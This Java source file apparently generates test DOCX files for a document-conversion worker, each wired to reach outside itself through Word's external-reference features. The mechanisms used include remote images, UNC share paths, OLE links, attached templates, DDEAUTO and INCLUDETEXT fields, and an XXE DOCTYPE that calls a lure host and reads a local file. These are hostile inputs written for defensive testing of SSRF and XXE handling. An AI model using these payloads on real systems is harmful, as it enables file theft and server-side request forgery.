package io.switchpost.document.worker;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;

/** DOCX files that refer to what is outside of them in each way that Word knows. */
final class BaitedWord {
  private static final String DOCUMENT =
      """
      <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" \
      xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" \
      xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" \
      xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" \
      xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" \
      xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">\
      <w:body>%s<w:sectPr/></w:body></w:document>""";

  private BaitedWord() {}

  static void references(Path file, Lure lure) throws IOException {
    String http = "http://" + lure.host();
    try (Zip zip = opened(file)) {
      zip.xml("word/document.xml", DOCUMENT.formatted(body(http, lure)));
      zip.relations(
          "word/_rels/document.xml.rels",
          "s settings settings.xml",
          "p1 image " + http + "/word.png",
          "p2 image " + lure.picture(),
          "p3 image \\\\" + lure.host() + "\\share\\word.png",
          "c1 aFChunk " + http + "/word.htm",
          "c2 aFChunk chunk.htm",
          "d1 subDocument " + http + "/sub.docx",
          "o1 oleObject " + http + "/word.xlsx",
          "o2 oleObject " + lure.text(),
          "f1 frame " + http + "/frame.htm");
      zip.xml(
          "word/settings.xml",
          """
          <w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" \
          xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">\
          <w:attachedTemplate r:id="t"/><w:linkStyles/><w:updateFields w:val="true"/></w:settings>""");
      zip.relations("word/_rels/settings.xml.rels", "t attachedTemplate " + http + "/word.dotm");
      zip.part(
          "word/chunk.htm",
          "<p>chunk <img src='%s/chunk.png'><img src='%s'></p><iframe src='%s'></iframe>"
              .formatted(http, lure.picture(), lure.text())
              .getBytes(StandardCharsets.UTF_8));
    }
  }

  /** Entities of XML in place of a text (XXE). */
  static void entities(Path file, Lure lure) throws IOException {
    String types =
        "<!DOCTYPE w:document [<!ENTITY % far SYSTEM \"http://{1}/far.dtd\"> %far;"
            + "<!ENTITY near SYSTEM \"{2}\"><!ENTITY there SYSTEM \"http://{1}/there\">]>";
    String document =
        types.replace("{1}", lure.host()).replace("{2}", lure.text())
            + DOCUMENT.formatted(text("words &near; &there;"));
    try (Zip zip = opened(file)) {
      zip.xml("word/document.xml", document);
      zip.relations("word/_rels/document.xml.rels");
    }
  }

  /** A document of these paragraphs and tables. */
  static void of(Path file, String body) throws IOException {
    try (Zip zip = opened(file)) {
      zip.xml("word/document.xml", DOCUMENT.formatted(body));
      zip.relations("word/_rels/document.xml.rels");
    }
  }

  private static Zip opened(Path file) throws IOException {
    return new Zip(file)
        .types("/word/document.xml wordprocessingml.document.main")
        .relations("_rels/.rels", "m officeDocument word/document.xml");
  }

  static String text(String words) {
    return "<w:p><w:r><w:t>" + words + "</w:t></w:r></w:p>";
  }

  private static String body(String http, Lure lure) {
    return text("What a document may want")
        + picture("p1")
        + picture("p2")
        + picture("p3")
        + field("INCLUDEPICTURE \"" + http + "/field.png\" \\d")
        + field("INCLUDEPICTURE \"" + lure.picture() + "\" \\d")
        + field("INCLUDETEXT \"" + lure.text() + "\"")
        + field("INCLUDETEXT \"" + http + "/field.txt\"")
        + field("LINK Excel.Sheet.12 \"" + http + "/link.xlsx\" \"Sheet1\" \\a \\p")
        + field("DDEAUTO \"soffice\" \"" + lure.text() + "\" \"all\"")
        + "<w:altChunk r:id=\"c1\"/><w:altChunk r:id=\"c2\"/><w:p><w:subDoc r:id=\"d1\"/></w:p>"
        + ole("o1")
        + ole("o2")
        + text("and its end");
  }

  private static String picture(String relation) {
    return """
    <w:p><w:r><w:drawing><wp:inline><wp:extent cx="3600000" cy="3600000"/><wp:docPr id="1" name="p"/>\
    <a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">\
    <pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr>\
    <pic:blipFill><a:blip r:link="%s"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>\
    <pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3600000" cy="3600000"/></a:xfrm>\
    <a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>\
    </a:graphic></wp:inline></w:drawing></w:r></w:p>"""
        .formatted(relation);
  }

  private static String field(String instruction) {
    return "<w:p><w:fldSimple w:dirty=\"true\" w:instr=\"%s\"><w:r><w:t>old</w:t></w:r></w:fldSimple></w:p>"
        .formatted(instruction.replace("\"", "&quot;"));
  }

  private static String ole(String relation) {
    return """
    <w:p><w:r><w:object><v:shape id="_%1$s" style="width:200pt;height:200pt"><v:imagedata r:href="p1"/>\
    </v:shape><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_%1$s" DrawAspect="Content" \
    ObjectID="_1" r:id="%1$s" UpdateMode="Always"/></w:object></w:r></w:p>"""
        .formatted(relation);
  }
}
